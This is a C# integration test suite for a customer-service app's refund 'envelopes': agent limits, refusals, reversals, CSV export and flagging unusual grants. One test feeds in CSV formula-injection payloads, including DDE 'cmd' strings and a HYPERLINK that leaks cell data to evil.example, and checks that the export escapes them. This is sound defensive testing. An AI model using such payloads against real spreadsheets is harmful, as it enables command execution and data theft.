using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Ribalta.Cases.Contracts;
using Ribalta.Cases.Domain;
using Ribalta.Empowerment.Catalogue;
using Ribalta.Empowerment.Contracts;
using Ribalta.Empowerment.Contracts.Events;
using Ribalta.Empowerment.Envelopes;
using Ribalta.Empowerment.Resolve;
using Ribalta.Platform.Data;
using Ribalta.Platform.Events;
using Ribalta.Platform.Identity;
using Ribalta.Tests.Infrastructure;
using Ribalta.Tests.Integration.Cases;
using Ribalta.Tests.Integration.Platform;
using Xunit;

namespace Ribalta.Tests.Integration.Empowerment;

/// <summary>
/// Resolving on the spot, through the API on both databases: a manager sets an option and its envelope; an agent sees
/// what is left, grants within it (the customer is told in their language), is refused above it with the limit named
/// and nothing written, and two agents at once cannot both take the last of a customer's allowance.
/// </summary>
public abstract class EmpowermentTests(RibaltaApp app)
{
    /// <summary>An agent of the test's own (so the monthly budget is theirs alone), who signs the customer's messages.</summary>
    private Task<StaffMember> NewAgentAsync() => app.NewStaffAsync(StaffRoles.Frontline, name: "Marta Neri");

    private static async Task<long> CaseAsync(HttpClient agent, string language = "it") =>
        (await agent.OpenPhoneCaseAsync("Giulia Ferri", language, "Pacco arrivato rotto", "Il vaso è arrivato in pezzi.")).Id;

    private static Task<HttpResponseMessage> ResolveAsync(HttpClient agent, long caseId, Guid optionId, decimal amount, string currency = "EUR", string reason = "Broken in transit") =>
        agent.PostAsJsonAsync($"/api/v1/cases/{caseId}/resolutions", new ResolutionRequest([new ResolutionLineInput(optionId, new MoneyDto(amount, currency))], reason), Api.Json);

    private Task<int> GrantCountAsync(long caseId) =>
        app.WithServices(sp => sp.GetRequiredService<RibaltaDbContext>().Set<Ribalta.Empowerment.Data.Grant>().CountAsync(g => g.CaseId == caseId));

    [Fact]
    public async Task An_agent_grants_within_the_envelope_at_once_and_the_customer_is_told_in_their_language()
    {
        var (_, option) = await app.RefundEnvelopeAsync(50, 80, 500);
        var (agent, agentId) = await NewAgentAsync();
        var caseId = await CaseAsync(agent);

        var offered = (await agent.GetFromJsonAsync<List<ResolveOptionDto>>($"/api/v1/cases/{caseId}/resolve", Api.Json))!;
        var refund = Assert.Single(offered, o => o.OptionId == option.Id);
        var eur = Assert.Single(refund.Currencies, c => c.Currency == "EUR");
        Assert.Equal(50m, eur.MostNow!.Amount);

        var granted = await ResolveAsync(agent, caseId, option.Id, 30m);
        Assert.Equal(HttpStatusCode.Created, granted.StatusCode);
        var resolution = (await granted.Content.ReadFromJsonAsync<ResolutionDto>(Api.Json))!;
        var grant = Assert.Single(resolution.Grants);
        Assert.Equal(30m, grant.Amount!.Amount);
        Assert.Equal(agentId, grant.GrantedBy);
        Assert.Equal("Broken in transit", grant.Reason);

        var reply = await app.WithServices(sp => sp.GetRequiredService<RibaltaDbContext>().Set<Message>().AsNoTracking().FirstAsync(m => m.Id == resolution.MessageId));
        Assert.Equal(MessageKind.Reply, reply.Kind);
        // Written by Ribalta on the agent's decision, in the organisation's formal register, greeting and signed.
        Assert.Equal("Gentile Giulia Ferri,\n\nLe abbiamo rimborsato 30,00 EUR.\n\nCordiali saluti,\nMarta Neri", reply.Body);
        Assert.Equal(ActorKind.System, reply.AuthorKind);
        Assert.Equal(agentId.ToString(), reply.AuthorId);
        Assert.NotNull(await app.Events.WaitForAsync(e => e.Type == ResolutionGranted.Type && e.SubjectId == caseId.ToString(System.Globalization.CultureInfo.InvariantCulture), TimeSpan.FromSeconds(10)));

        // What is left shrinks: the customer may get 50 more in the period, this agent 470 more this month.
        offered = (await agent.GetFromJsonAsync<List<ResolveOptionDto>>($"/api/v1/cases/{caseId}/resolve", Api.Json))!;
        eur = offered.Single(o => o.OptionId == option.Id).Currencies.Single(c => c.Currency == "EUR");
        Assert.Equal(50m, eur.CustomerLeft!.Amount);
        Assert.Equal(470m, eur.BudgetLeft!.Amount);
        Assert.Single((await agent.GetFromJsonAsync<List<GrantDto>>($"/api/v1/cases/{caseId}/grants", Api.Json))!);
    }

    [Fact]
    public async Task Above_the_envelope_nothing_is_granted_and_the_answer_names_the_limit_and_offers_help()
    {
        var (manager, option) = await app.RefundEnvelopeAsync(50, 80, 500);
        var (agent, _) = await NewAgentAsync();
        var caseId = await CaseAsync(agent);
        var before = await app.WithServices(sp => sp.GetRequiredService<RibaltaDbContext>().Set<Message>().CountAsync(m => m.CaseId == caseId));

        var tooMuch = await ResolveAsync(agent, caseId, option.Id, 50.01m);
        var problem = await tooMuch.AssertProblemAsync(HttpStatusCode.BadRequest, "Error.OutsideEnvelope");
        Assert.Contains("Ask for help", problem.GetProperty("title").GetString(), StringComparison.Ordinal);
        Assert.Contains("50.00 EUR", problem.GetProperty("errors").GetProperty("lines[0]")[0].GetString(), StringComparison.Ordinal);

        // The per-customer allowance: 40 + 40 fit in 80, the next 10 does not (0 left).
        Assert.Equal(HttpStatusCode.Created, (await ResolveAsync(agent, caseId, option.Id, 40m)).StatusCode);
        Assert.Equal(HttpStatusCode.Created, (await ResolveAsync(agent, caseId, option.Id, 40m)).StatusCode);
        var over = await ResolveAsync(agent, caseId, option.Id, 10m);
        await over.AssertProblemAsync(HttpStatusCode.BadRequest, "Error.OutsideEnvelope");
        Assert.Contains("0.00 EUR left", (await over.ReadJsonAsync()).GetProperty("errors").GetProperty("lines[0]")[0].GetString(), StringComparison.Ordinal);
        Assert.Equal(2, await GrantCountAsync(caseId));
        var after = await app.WithServices(sp => sp.GetRequiredService<RibaltaDbContext>().Set<Message>().CountAsync(m => m.CaseId == caseId));
        Assert.Equal(before + 2, after);

        // The managers see where the envelope stopped people: 2 grants, 2 limits reached (one per grant, one per customer).
        var usage = (await manager.GetFromJsonAsync<List<EnvelopeUsageRow>>("/api/v1/envelopes/usage", Api.Json))!.Single(r => r.OptionId == option.Id);
        Assert.Equal(2, usage.Granted);
        Assert.Equal(2, usage.LimitReached);
        Assert.Equal(1, usage.ByLimit["PerGrant"]);
        Assert.Equal(1, usage.ByLimit["PerCustomer"]);
        Assert.Equal(0.5, usage.ReachedShare);
    }

    [Fact]
    public async Task Bad_input_is_refused_with_reasons_and_grants_nothing()
    {
        var (manager, option) = await app.RefundEnvelopeAsync(50, 80, 500);
        var (agent, _) = await NewAgentAsync();
        var caseId = await CaseAsync(agent);

        await (await ResolveAsync(agent, caseId, option.Id, -5m)).AssertRefusedAsync("lines[0].amount.amount");
        await (await ResolveAsync(agent, caseId, option.Id, 0m)).AssertRefusedAsync("lines[0].amount.amount");
        await (await ResolveAsync(agent, caseId, option.Id, 10.001m)).AssertRefusedAsync("lines[0].amount.amount");
        await (await ResolveAsync(agent, caseId, option.Id, 9_999_999_999m)).AssertRefusedAsync("lines[0].amount.amount");
        await (await ResolveAsync(agent, caseId, option.Id, 10m, "EUX")).AssertRefusedAsync("lines[0].amount.currency");
        await (await ResolveAsync(agent, caseId, Guid.NewGuid(), 10m)).AssertRefusedAsync("lines[0].optionId");
        await (await ResolveAsync(agent, caseId, option.Id, 10m, reason: " ")).AssertRefusedAsync("reason");
        var nullLine = await agent.PostAsync($"/api/v1/cases/{caseId}/resolutions", new StringContent("{\"lines\":[null],\"reason\":\"x\"}", System.Text.Encoding.UTF8, "application/json"));
        await nullLine.AssertRefusedAsync("lines[0].optionId");
        var noLines = await agent.PostAsync($"/api/v1/cases/{caseId}/resolutions", new StringContent("{\"reason\":\"x\"}", System.Text.Encoding.UTF8, "application/json"));
        await noLines.AssertRefusedAsync("lines");
        var twice = await agent.PostAsJsonAsync($"/api/v1/cases/{caseId}/resolutions", new ResolutionRequest(
            [new ResolutionLineInput(option.Id, new MoneyDto(10, "EUR")), new ResolutionLineInput(option.Id, new MoneyDto(10, "EUR"))], "Split"), Api.Json);
        await twice.AssertRefusedAsync("lines[1].optionId");
        var gbp = await ResolveAsync(agent, caseId, option.Id, 10m, "GBP");
        Assert.Equal("Error.OutsideEnvelope", (await gbp.ReadJsonAsync()).GetProperty("code").GetString());
        Assert.Equal(HttpStatusCode.NotFound, (await ResolveAsync(agent, 999_999_999, option.Id, 10m)).StatusCode);
        Assert.Equal(0, await GrantCountAsync(caseId));

        // Rules refuse what could never work.
        await (await manager.PostAsJsonAsync("/api/v1/envelope-rules", new EnvelopeRuleInput(option.Id, "Wizard", PerGrant: [new MoneyDto(10, "EUR")]), Api.Json)).AssertRefusedAsync("role");
        await (await manager.PostAsJsonAsync("/api/v1/envelope-rules", new EnvelopeRuleInput(option.Id, StaffRoles.Frontline), Api.Json)).AssertRefusedAsync("perGrant");
        await (await manager.PostAsJsonAsync("/api/v1/envelope-rules", new EnvelopeRuleInput(option.Id, StaffRoles.Frontline, PerGrant: [new MoneyDto(10, "EUR"), new MoneyDto(20, "eur")]), Api.Json)).AssertRefusedAsync("perGrant[1].currency");
        await (await manager.PostAsJsonAsync("/api/v1/envelope-rules", new EnvelopeRuleInput(option.Id, StaffRoles.Frontline, PerGrant: [new MoneyDto(-1, "EUR")]), Api.Json)).AssertRefusedAsync("perGrant[0].amount");
        await (await manager.PostAsJsonAsync("/api/v1/resolution-options", new ResolutionOptionInput(ResolutionKind.Credit, OptionMeasure.Money, new Dictionary<string, string> { ["it"] = "Credito" }), Api.Json)).AssertRefusedAsync("names.en");

        // Only managers set the catalogue and the envelopes.
        Assert.Equal(HttpStatusCode.Forbidden, (await agent.PostAsJsonAsync("/api/v1/envelope-rules", new EnvelopeRuleInput(option.Id, StaffRoles.Frontline, PerGrant: [new MoneyDto(5000, "EUR")]), Api.Json)).StatusCode);
    }

    [Fact]
    public async Task A_manager_reverses_a_grant_with_a_reason_and_it_stops_counting_and_the_export_shows_it_all()
    {
        var (manager, option) = await app.RefundEnvelopeAsync(50, 80, 500);
        var (agent, _) = await NewAgentAsync();
        var caseId = await CaseAsync(agent);
        var first = (await (await ResolveAsync(agent, caseId, option.Id, 50m, reason: "Parcel lost")).Content.ReadFromJsonAsync<ResolutionDto>(Api.Json))!.Grants[0];
        await (await ResolveAsync(agent, caseId, option.Id, 50m)).AssertProblemAsync(HttpStatusCode.BadRequest, "Error.OutsideEnvelope");

        await (await manager.PostAsJsonAsync($"/api/v1/grants/{first.Id}/reverse", new ReverseRequest(" "), Api.Json)).AssertRefusedAsync("reason");
        var reversed = await manager.PostAsJsonAsync($"/api/v1/grants/{first.Id}/reverse", new ReverseRequest("The parcel was found"), Api.Json);
        Assert.Equal(HttpStatusCode.OK, reversed.StatusCode);
        Assert.NotNull((await reversed.Content.ReadFromJsonAsync<GrantDto>(Api.Json))!.ReversedAt);
        Assert.Equal(HttpStatusCode.Conflict, (await manager.PostAsJsonAsync($"/api/v1/grants/{first.Id}/reverse", new ReverseRequest("Again"), Api.Json)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await manager.PostAsJsonAsync("/api/v1/grants/999999999/reverse", new ReverseRequest("x"), Api.Json)).StatusCode);

        // Nobody takes back their own grant (it would give their own budget back).
        await manager.AddEnvelopeRuleAsync(new EnvelopeRuleInput(option.Id, StaffRoles.TeamLead, PerGrant: [new MoneyDto(100, "EUR")]));
        var lead = (await app.NewStaffAsync(StaffRoles.TeamLead, name: "Lia Conti")).Client;
        var leadCase = await CaseAsync(lead);
        var own = (await (await ResolveAsync(lead, leadCase, option.Id, 20m)).Content.ReadFromJsonAsync<ResolutionDto>(Api.Json))!.Grants[0];
        Assert.Equal(HttpStatusCode.Forbidden, (await lead.PostAsJsonAsync($"/api/v1/grants/{own.Id}/reverse", new ReverseRequest("Mine"), Api.Json)).StatusCode);

        // Taken back, it no longer uses the customer's allowance.
        Assert.Equal(HttpStatusCode.Created, (await ResolveAsync(agent, caseId, option.Id, 50m, reason: "Parcel lost again")).StatusCode);

        var export = await manager.GetAsync("/api/v1/grants/export");
        Assert.Equal(HttpStatusCode.OK, export.StatusCode);
        Assert.Equal("text/csv", export.Content.Headers.ContentType?.MediaType);
        var csv = await export.Content.ReadAsStringAsync();
        var line = csv.Split('\n').Single(l => l.StartsWith($"{first.Id},", StringComparison.Ordinal));
        Assert.Contains("Parcel lost", line, StringComparison.Ordinal);
        Assert.Contains("The parcel was found", line, StringComparison.Ordinal);
        var fields = line.Split(',');
        Assert.Equal(50m, decimal.Parse(fields[6], System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal("EUR", fields[7]);
        Assert.StartsWith("Id,GrantedAt,CaseId,CustomerId,Option,Kind,Amount,Currency", csv.TrimStart('\uFEFF'), StringComparison.Ordinal);
        await (await manager.GetAsync("/api/v1/grants/export?from=2026-01-01&to=2025-01-01")).AssertRefusedAsync("from");
    }

    [Fact]
    public async Task The_export_writes_reasons_that_look_like_formulas_as_text_and_amounts_as_numbers()
    {
        var (manager, option) = await app.RefundEnvelopeAsync(50, 5000, 5000);
        var (agent, _) = await NewAgentAsync();
        var caseId = await CaseAsync(agent);
        string[] reasons =
        [
            "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click here\")", "@SUM(1+9)*cmd|' /C calc'!A0",
            "+1+1", "-2+3+cmd|' /C calc'!A0", "=1+1, then \"quoted\"", "＝1+1", "Rimborso; =1+1",
        ];
        var ids = new List<long>();
        foreach (var reason in reasons)
        {
            var granted = await ResolveAsync(agent, caseId, option.Id, 1.50m, reason: reason);
            Assert.Equal(HttpStatusCode.Created, granted.StatusCode);
            ids.Add((await granted.Content.ReadFromJsonAsync<ResolutionDto>(Api.Json))!.Grants[0].Id);
        }

        Assert.Equal(HttpStatusCode.OK, (await manager.PostAsJsonAsync($"/api/v1/grants/{ids[0]}/reverse", new ReverseRequest("=HYPERLINK(\"http://evil.example\")"), Api.Json)).StatusCode);

        var export = await manager.GetAsync("/api/v1/grants/export", HttpCompletionOption.ResponseHeadersRead);
        Assert.Equal(HttpStatusCode.OK, export.StatusCode);

        // Streamed as it is read: no length known up front, as a file built in memory would have.
        Assert.Null(export.Content.Headers.ContentLength);
        Assert.Equal("attachment", export.Content.Headers.ContentDisposition?.DispositionType);
        var bytes = await export.Content.ReadAsByteArrayAsync();
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var rows = Ribalta.Tests.Unit.CsvWriterTests.Parse(System.Text.Encoding.UTF8.GetString(bytes[3..]));
        Assert.Equal(["Id", "GrantedAt", "CaseId", "CustomerId", "Option", "Kind", "Amount", "Currency", "Quantity", "GrantedBy", "GrantedById", "Reason", "ReversedAt", "ReversalReason"], rows[0]);
        for (var i = 0; i < reasons.Length; i++)
        {
            var row = rows.Single(r => r[0] == ids[i].ToString(System.Globalization.CultureInfo.InvariantCulture));
            Assert.Equal(reasons[i] == "Rimborso; =1+1" ? "Rimborso;' =1+1" : "'" + reasons[i], row[11]);
            Assert.Equal(1.50m, decimal.Parse(row[6], System.Globalization.CultureInfo.InvariantCulture));
        }

        Assert.Equal("'=HYPERLINK(\"http://evil.example\")", rows.Single(r => r[0] == ids[0].ToString(System.Globalization.CultureInfo.InvariantCulture))[13]);
    }

    [Fact]
    public async Task A_persons_monthly_budget_spans_their_customers_and_a_reversal_gives_it_back()
    {
        var (manager, option) = await app.RefundEnvelopeAsync(50, 80, 60);
        var (agent, _) = await NewAgentAsync();
        var first = await CaseAsync(agent);
        var second = await CaseAsync(agent);

        var granted = (await (await ResolveAsync(agent, first, option.Id, 50m)).Content.ReadFromJsonAsync<ResolutionDto>(Api.Json))!.Grants[0];
        var over = await ResolveAsync(agent, second, option.Id, 20m);
        await over.AssertProblemAsync(HttpStatusCode.BadRequest, "Error.OutsideEnvelope");
        Assert.Contains("10.00 EUR left", (await over.ReadJsonAsync()).GetProperty("errors").GetProperty("lines[0]")[0].GetString(), StringComparison.Ordinal);
        var left = (await agent.GetFromJsonAsync<List<ResolveOptionDto>>($"/api/v1/cases/{second}/resolve", Api.Json))!
            .Single(o => o.OptionId == option.Id).Currencies.Single(c => c.Currency == "EUR");
        Assert.Equal(10m, left.BudgetLeft!.Amount);

        Assert.Equal(HttpStatusCode.OK, (await manager.PostAsJsonAsync($"/api/v1/grants/{granted.Id}/reverse", new ReverseRequest("Duplicate"), Api.Json)).StatusCode);
        Assert.Equal(HttpStatusCode.Created, (await ResolveAsync(agent, second, option.Id, 20m)).StatusCode);
    }

    [Fact]
    public async Task Two_agents_at_once_cannot_both_take_the_last_of_a_customers_allowance()
    {
        var (_, option) = await app.RefundEnvelopeAsync(50, 80, 5000);
        var (first, _) = await NewAgentAsync();
        var (second, _) = await NewAgentAsync();
        var caseId = await CaseAsync(first);

        for (var round = 0; round < 3; round++)
        {
            var otherCase = round == 0 ? caseId : await CaseAsync(first);
            var answers = await Task.WhenAll(ResolveAsync(first, otherCase, option.Id, 50m), ResolveAsync(second, otherCase, option.Id, 50m));
            Assert.Single(answers, a => a.StatusCode == HttpStatusCode.Created);
            await Assert.Single(answers, a => a.StatusCode == HttpStatusCode.BadRequest).AssertProblemAsync(HttpStatusCode.BadRequest, "Error.OutsideEnvelope");
            Assert.Equal(1, await GrantCountAsync(otherCase));
        }
    }

    [Fact]
    public async Task A_grant_far_above_the_team_norm_is_flagged_to_the_team_lead_and_not_blocked()
    {
        var admin = await app.AsAdmin();
        var team = await admin.CreateDepartmentAsync();
        var (manager, option) = await app.RefundEnvelopeAsync(200, 100_000, 100_000);
        var (usual, _) = await app.NewStaffAsync(StaffRoles.Frontline, team);
        var (generous, generousId) = await app.NewStaffAsync(StaffRoles.Frontline, team);
        var (lead, _) = await app.NewStaffAsync(StaffRoles.TeamLead, team);
        var (otherLead, _) = await app.NewStaffAsync(StaffRoles.TeamLead, await admin.CreateDepartmentAsync());
        var caseId = await CaseAsync(usual);
        for (var i = 0; i < 10; i++)
        {
            Assert.Equal(HttpStatusCode.Created, (await ResolveAsync(usual, caseId, option.Id, 20m)).StatusCode);
        }

        // 50 is within three times the team's median of 20: nothing to talk about. 150 is granted at once, and flagged.
        Assert.Equal(HttpStatusCode.Created, (await ResolveAsync(generous, caseId, option.Id, 50m)).StatusCode);
        Assert.Equal(HttpStatusCode.Created, (await ResolveAsync(generous, caseId, option.Id, 150m)).StatusCode);
        var flags = (await lead.GetFromJsonAsync<List<GrantFlagDto>>("/api/v1/grant-flags", Api.Json))!;
        var flag = Assert.Single(flags, f => f.StaffId == generousId);
        Assert.Equal((150m, 20m), (flag.Amount.Amount!.Value, flag.TeamMedian.Amount!.Value));
        Assert.InRange(flag.TeamSample, 10, 11);
        Assert.NotNull(await app.Events.WaitForAsync(e => e.Type == GrantFlagged.Type && e.SubjectId == flag.GrantId.ToString(System.Globalization.CultureInfo.InvariantCulture) && e.CustomerId == null, TimeSpan.FromSeconds(10)));

        // Another team's lead does not see it; the agent cannot close it; a manager sees every team's.
        Assert.DoesNotContain((await otherLead.GetFromJsonAsync<List<GrantFlagDto>>("/api/v1/grant-flags", Api.Json))!, f => f.Id == flag.Id);
        Assert.Equal(HttpStatusCode.Forbidden, (await otherLead.PostAsJsonAsync($"/api/v1/grant-flags/{flag.Id}/discussed", new DiscussInput("Not mine"), Api.Json)).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await generous.PostAsJsonAsync($"/api/v1/grant-flags/{flag.Id}/discussed", new DiscussInput("Fine"), Api.Json)).StatusCode);
        Assert.Contains((await manager.GetFromJsonAsync<List<GrantFlagDto>>("/api/v1/grant-flags", Api.Json))!, f => f.Id == flag.Id);

        await (await lead.PostAsJsonAsync($"/api/v1/grant-flags/{flag.Id}/discussed", new DiscussInput(" "), Api.Json)).AssertRefusedAsync("note");
        var discussed = await lead.PostAsJsonAsync($"/api/v1/grant-flags/{flag.Id}/discussed", new DiscussInput("The parcel was a gift; right call."), Api.Json);
        Assert.Equal(HttpStatusCode.OK, discussed.StatusCode);
        Assert.Equal(HttpStatusCode.Conflict, (await lead.PostAsJsonAsync($"/api/v1/grant-flags/{flag.Id}/discussed", new DiscussInput("Again"), Api.Json)).StatusCode);
        Assert.DoesNotContain((await lead.GetFromJsonAsync<List<GrantFlagDto>>("/api/v1/grant-flags", Api.Json))!, f => f.Id == flag.Id);
        Assert.Contains((await lead.GetFromJsonAsync<List<GrantFlagDto>>("/api/v1/grant-flags?open=false", Api.Json))!, f => f.Id == flag.Id && f.Note == "The parcel was a gift; right call.");
    }
}

[Collection(SqliteCollection.Name)]
[Trait("Suite", "Sqlite")]
public sealed class EmpowermentTestsOnSqlite(SqliteAppFixture fixture) : EmpowermentTests(fixture.App);

[Collection(PostgresCollection.Name)]
[Trait("Suite", "Postgres")]
public sealed class EmpowermentTestsOnPostgres(PostgresAppFixture fixture) : EmpowermentTests(fixture.App);
